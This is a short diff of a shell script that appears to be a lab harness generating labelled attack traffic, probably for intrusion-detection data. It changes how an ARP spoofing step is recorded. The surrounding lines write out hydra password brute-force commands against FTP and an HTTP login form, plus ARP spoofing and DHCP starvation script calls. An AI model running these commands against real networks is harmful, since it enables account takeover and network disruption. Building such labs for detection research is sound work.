@@ -170,7 +170,7 @@ step() {
     brute_ftp) record brute_ftp brute_force "$atk" inside atk timeout $((6 + 2 * r)) hydra -I -q -L "$work/users" -P "$work/words" -t 16 "ftp://$srv" ;;
     brute_http) record brute_http brute_force "$atk" inside atk timeout $((4 + 2 * r)) hydra -I -q -L "$work/users" -P "$work/words" -t $((2 + r)) -s 8080 "$srv" http-post-form "/login:user=^USER^&pass=^PASS^:F=Unsupported" ;;
     dns_tunnel) record dns_tunnel dns_tunnel "$atk" tunnel ;;
-    arp_spoof) record arp_spoof arp_spoof "$srv" inside atk python3 "$here/arp_spoof.py" eth0 "$srv" "$cli" $((30 + 10 * r)) ;;
+    arp_spoof) record arp_spoof arp_spoof "$atk" inside atk python3 "$here/arp_spoof.py" eth0 "$srv" "$cli" $((30 + 10 * r)) "$atk" ;;
     dhcp_starvation) record dhcp_starvation dhcp_starvation 0.0.0.0 inside atk python3 "$here/dhcp_starve.py" eth0 $((30 + 10 * r)) ;;
     *) echo "lab: no step $1" >&2; exit 64 ;;
   esac
